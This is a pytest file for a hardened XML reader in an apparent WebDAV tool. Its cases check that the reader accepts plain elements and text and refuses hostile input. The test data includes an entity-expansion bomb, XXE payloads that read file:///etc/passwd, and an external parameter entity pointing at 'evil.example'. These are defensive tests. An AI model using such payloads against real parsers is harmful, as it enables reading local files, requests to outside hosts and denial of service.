"""XML of servers: elements and text, and none of the rest."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from armslength.tools.dav.xml import DEEPEST, MOST_ELEMENTS, Element, read_xml

BOMB = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]>'


def test_elements_and_text() -> None:
    """Names with their namespaces, text of all pieces, and the attribute by which components are named."""
    read = read_xml(
        b'<?xml version="1.0"?><d:a xmlns:d="DAV:" x="1">t<d:b name="VEVENT"/>u<![CDATA[<v>]]>&amp;<!-- no --></d:a>'
    )
    assert read == Element("DAV: a", "tu<v>&", children=[Element("DAV: b", called="VEVENT")])


@pytest.mark.parametrize(
    "text",
    [
        f"{BOMB}<a>&c;</a>",
        '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><a/>',
        "<!DOCTYPE a><a/>",
        "<a>&x;</a>",
        "<a><b></a>",
        "<a/><a/>",
        "",
        "no xml",
        "<a>" * (DEEPEST + 1) + "</a>" * (DEEPEST + 1),
        "<a>" + "<b/>" * MOST_ELEMENTS + "</a>",
        "<a>\x00</a>",
        '<x:a xmlns:y="z"/>',
    ],
    ids=range(14),
)
def test_what_is_more_than_elements_is_refused(text: str) -> None:
    """Document types and entities, whatever they are for; what is not well formed; what is deep or long beyond use."""
    assert read_xml(text.encode()) is None


@given(st.binary(max_size=200))
def test_any_bytes_are_read_or_refused(content: bytes) -> None:
    """No byte string raises."""
    assert isinstance(read_xml(content), Element | None)
